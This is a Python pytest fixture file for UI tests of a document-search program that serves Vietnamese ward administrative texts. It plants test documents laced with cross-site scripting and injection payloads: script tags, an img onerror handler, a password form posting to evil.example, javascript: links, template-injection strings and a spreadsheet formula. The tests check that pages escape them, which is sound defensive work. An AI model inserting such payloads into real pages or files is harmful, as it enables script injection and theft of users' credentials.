"""A store with the samples and a hostile document, the installed program, and a running server."""

import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from shutil import copytree
from subprocess import PIPE
from typing import NamedTuple

import pytest
from playwright.sync_api import Browser, sync_playwright

from tests.ui.office import Office, set_up, write_papers
from tests.ui.visit import CHROMIUM, DESK, Visit

ROOT = Path(__file__).parents[2]
PROGRAM = Path(sys.executable).parent / "cancu"

# Everything that would become live in a page that forgets to escape: script, picture, form, link,
# Markdown, and the template languages of Gradio's own HTML component.
HOSTILE = (
    '<script>window.pwned = 1</script><img src="http://evil.example/a.png" onerror="pwned = 2">'
    '<form action="http://evil.example/"><input name="mat-khau"></form>'
    '<a href="javascript:window.pwned=3">bấm vào đây</a><iframe src="http://evil.example/"></iframe>'
    "![ảnh](http://evil.example/b.png) ${window.pwned = 4} {{constructor.constructor('pwned=5')()}}"
)
HOSTILE_DOCUMENT = f"""ỦY BAN NHÂN DÂN
PHƯỜNG SAO MAI

Số: 99/KH-UBND

Sao Mai, ngày 05 tháng 02 năm 2026

KẾ HOẠCH
Trồng cây xanh dọc bờ kè {HOSTILE}

I. NỘI DUNG THỰC HIỆN
1. Trồng cây bàng lá nhỏ dọc bờ kè
Phường trồng bàng lá nhỏ dọc bờ kè, giao tổ dân phố chăm sóc. {HOSTILE}
"""

FORMULA = "=HYPERLINK(1)"
LINK = '<a href="http://evil.example/">Đội cây xanh</a>'
HOSTILE_FIGURES = f"""**ỦY BAN NHÂN DÂN**
**PHƯỜNG SAO MAI**

Số: 98/BC-UBND

*Sao Mai, ngày 06 tháng 02 năm 2026*

# BÁO CÁO

**Kết quả trồng cây bàng lá nhỏ năm 2025**

| TT | Chỉ tiêu | ĐVT | Kết quả năm 2025 | Mục tiêu năm 2026 | Đơn vị chủ trì |
|---|---|---|---|---|---|
| 1 | Số cây bàng lá nhỏ {HOSTILE.replace("|", "/")} | Cây | 40 | ≥ 60 | {LINK} |
| 2 | {FORMULA} Tỷ lệ cây bàng lá nhỏ còn sống | % | - | 90 | +Đội cây xanh |
"""


class Finished(NamedTuple):
    """What a run of the program left: its exit code and both outputs."""

    code: int
    out: str
    err: str


Cancu = Callable[..., Finished]


@pytest.fixture(scope="session")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("ui") / "van-ban"
    copytree(ROOT / "samples" / "corpus", folder)
    (folder / "ke-hoach-trong-cay.txt").write_text(HOSTILE_DOCUMENT, "utf-8")
    (folder / "bao-cao-trong-cay.md").write_text(HOSTILE_FIGURES, "utf-8")
    return folder


def environment(data: Path, **more: str) -> dict[str, str]:
    """The environment of a person who set the data folder and nothing else of ours."""
    kept = {name: value for name, value in os.environ.items() if not name.startswith("CANCU_")}
    return {**kept, "CANCU_DATA": str(data), **more}


@contextmanager
def serving(data: Path, *words: str, **more: str) -> Iterator[str]:
    """The address of `cancu serve` on a free port, ended by its own process when done with."""
    command = [str(PROGRAM), "serve", "--port", "0", *words]
    with subprocess.Popen(
        command, env=environment(data, **more), stderr=PIPE, text=True
    ) as process:
        try:
            yield _address(process)
        finally:
            process.terminate()
            process.wait(20)


def _address(process: "subprocess.Popen[str]") -> str:
    """The address it prints when it is ready; its last words where it ends before that."""
    assert process.stderr
    said = ""
    for line in process.stderr:
        said += line
        if found := re.search(r"http://127\.0\.0\.1:\d+", line):
            return found[0]
    raise AssertionError(said)


def run_cancu(data: Path, *words: str, **more: str) -> Finished:
    """The installed program, run to its end."""
    done = subprocess.run(
        [PROGRAM, *words], env=environment(data, **more), capture_output=True, timeout=240
    )
    return Finished(done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8"))


@pytest.fixture(scope="session")
def data(corpus: Path) -> Path:
    """A data folder with the corpus read in."""
    folder = corpus.parent / "data"
    read = run_cancu(folder, "ingest", str(corpus), "--shelf", "public")
    assert read.code == 0, read.err
    return folder


@pytest.fixture
def cancu(data: Path) -> Cancu:
    def run(*words: str, **more: str) -> Finished:
        return run_cancu(data, *words, **more)

    return run


@pytest.fixture(scope="session")
def server(data: Path) -> Iterator[str]:
    """The address of a server over the corpus."""
    with serving(data) as address:
        yield address


@pytest.fixture(scope="session")
def office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    """A server whose users are set up, with a paper on either shelf."""
    folder = tmp_path_factory.mktemp("office")
    for shelf, papers in write_papers(folder).items():
        read = run_cancu(folder / "data", "ingest", str(papers), "--shelf", shelf)
        assert read.code == 0, read.err
    with serving(folder / "data") as server:
        yield set_up(server, folder / "data")


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    if CHROMIUM is None:
        pytest.skip("no Chromium on this machine")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=["--no-sandbox", "--disable-background-networking", "--disable-component-update"],
        )
        yield browser
        browser.close()


@pytest.fixture
def visit(browser: Browser, server: str) -> Iterator[Visit]:
    visit = Visit(browser, server, DESK)
    yield visit
    visit.page.close()
    visit.check()
